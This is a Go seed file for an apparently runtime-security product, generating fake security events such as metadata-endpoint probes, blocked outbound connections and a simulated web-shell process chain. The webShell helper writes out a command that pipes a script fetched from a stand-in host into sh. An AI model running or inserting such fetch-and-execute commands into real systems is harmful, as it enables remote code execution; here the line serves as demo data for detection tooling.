package seed

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"time"

	"github.com/limpet-security/limpet/internal/event"
	"github.com/limpet-security/limpet/internal/event/eventpb"
	"github.com/limpet-security/limpet/internal/policy"
)

// digest makes up the digest of something with a name.
func digest(name string) string {
	sum := sha256.Sum256([]byte(name))
	return "sha256:" + hex.EncodeToString(sum[:])
}

const (
	audited = eventpb.Verdict_VERDICT_AUDIT
	denied  = eventpb.Verdict_VERDICT_DENY
)

// errno numbers that enforcers answer with.
const (
	eperm  = 1
	eacces = 13
	again  = 11
	refuse = 111
)

// incident is one event to be told.
type incident struct {
	host    string
	ago     time.Duration
	kind    eventpb.Kind
	verdict eventpb.Verdict
	control policy.ControlID
	rule    string
	policy  string
	errno   int32
	killed  bool
	count   uint64
	chain   []*eventpb.Process // who acted, then its parent, and so on
	file    *eventpb.FileObject
	net     *eventpb.NetworkObject
	dns     *eventpb.DnsObject
	call    *eventpb.CallObject
	more    map[string]string
}

// report hands every incident to the enforcer that it happened at.
func (f *fleet) report() error {
	now := time.Now()
	for _, i := range append(incidents(), routine()...) {
		u := f.links[i.host]
		if u == nil {
			return errors.New("no enforcer " + i.host)
		}
		u.Record(i.event(now))
	}
	for host, u := range f.links {
		e := &eventpb.Event{
			Kind: eventpb.Kind_KIND_LIFECYCLE, Verdict: eventpb.Verdict_VERDICT_ALLOW, Reason: "The workload was started.",
			ObservedAtNs: now.Add(-23 * time.Hour).UnixNano(), Count: 1, Attributes: map[string]string{"version": "0.1.0", "entrypoint": "/docker-entrypoint.sh"},
		}
		u.Record(e)
		if host == "importer-29384" {
			u.Record(&eventpb.Event{
				Kind: eventpb.Kind_KIND_DROPPED, Verdict: eventpb.Verdict_VERDICT_ALLOW, ObservedAtNs: now.Add(-3 * time.Hour).UnixNano(), Count: 1,
				Reason: "1284 events were not delivered: the queue was full.",
				Object: &eventpb.Event_Dropped{Dropped: &eventpb.Dropped{Count: 1284, FirstNs: now.Add(-200 * time.Minute).UnixNano(), LastNs: now.Add(-3 * time.Hour).UnixNano(),
					ByControl: map[string]uint64{"outbound": 1200, "drift": 84}, Reason: "the queue was full"}},
			})
		}
	}
	return nil
}

func (i incident) event(now time.Time) *eventpb.Event {
	at := now.Add(-i.ago).UnixNano()
	e := &eventpb.Event{
		Id: event.NewID(), ObservedAtNs: at, LastObservedAtNs: at, Kind: i.kind, Verdict: i.verdict, Mode: eventpb.Mode_MODE_ENFORCE,
		Control: string(i.control), Rule: i.rule, Policy: i.policy, Errno: i.errno, Killed: i.killed, Count: max(i.count, 1), Attributes: i.more,
		BundleEpoch: 1, BundleNumber: 3,
	}
	if i.count > 1 {
		e.LastObservedAtNs += int64(9 * time.Second)
	}
	if i.verdict == audited {
		e.Mode, e.Errno, e.Killed = eventpb.Mode_MODE_AUDIT, 0, false
	}
	if len(i.chain) > 0 {
		e.Process, e.Ancestors = i.chain[0], i.chain[1:]
	}
	switch {
	case i.file != nil:
		e.Object = &eventpb.Event_File{File: i.file}
	case i.net != nil:
		e.Object = &eventpb.Event_Network{Network: i.net}
	case i.dns != nil:
		e.Object = &eventpb.Event_Dns{Dns: i.dns}
	case i.call != nil:
		e.Object = &eventpb.Event_Call{Call: i.call}
	}
	e.Technique = event.Technique(i.control)
	e.Reason = event.Reason(e)
	event.Bound(e)
	return e
}

// proc makes a process of a command line.
func proc(pid int32, uid uint32, exe string, args ...string) *eventpb.Process {
	user := map[uint32]string{0: "root", 33: "www-data", 101: "nginx", 1000: "app", 70: "postgres"}[uid]
	comm := exe
	for n := len(exe) - 1; n >= 0; n-- {
		if exe[n] == '/' {
			comm = exe[n+1:]
			break
		}
	}
	return &eventpb.Process{Pid: pid, Tid: pid, Uid: uid, Gid: uid, User: user, Exe: exe, Comm: comm, Args: append([]string{comm}, args...), Digest: digest(exe), StartTime: uint64(pid) * 100}
}

// under puts processes in their order, the one that acts first.
func under(chain ...*eventpb.Process) []*eventpb.Process {
	for n := 0; n+1 < len(chain); n++ {
		chain[n].Ppid = chain[n+1].Pid
	}
	return chain
}

// webShell is a shell that a web server's program was made to start.
func webShell(acting *eventpb.Process) []*eventpb.Process {
	return under(acting, proc(412, 101, "/bin/dash", "-c", "id; uname -a; curl -s http://192.0.2.66/x.sh | sh"),
		proc(38, 101, "/usr/sbin/php-fpm8.2", "--nodaemonize"), proc(7, 0, "/usr/sbin/nginx", "-g", "daemon off;"))
}

// routine is what repeats over a day, so that charts have something to show.
func routine() (out []incident) {
	for n := range 46 {
		out = append(out, incident{
			host: "importer-29384", ago: time.Duration(n)*31*time.Minute + 40*time.Second, kind: eventpb.Kind_KIND_NETWORK, verdict: audited,
			control: policy.Metadata, rule: "instance-metadata", policy: "default", count: uint64(1 + n%4),
			chain: under(proc(int32(900+n), 1000, "/usr/bin/python3.12", "/opt/importer/run.py", "--since", "yesterday"), proc(7, 1000, "/usr/bin/dumb-init")),
			net:   &eventpb.NetworkObject{Protocol: "tcp", Address: "169.254.169.254", Port: 80, Direction: "outbound"},
		})
		if n%3 == 0 {
			out = append(out, incident{
				host: "shop-web-7d9f-qq8zl", ago: time.Duration(n)*29*time.Minute + 3*time.Minute, kind: eventpb.Kind_KIND_NETWORK, verdict: denied,
				control: policy.Outbound, rule: "not-listed", policy: "web-servers", errno: refuse, count: uint64(1 + n),
				chain: under(proc(51, 101, "/usr/sbin/nginx", "-g", "daemon off;"), proc(7, 0, "/usr/sbin/nginx", "-g", "daemon off;")),
				net:   &eventpb.NetworkObject{Protocol: "tcp", Address: "203.0.113.9", Port: 443, Direction: "outbound"},
			})
		}
	}
	return out
}
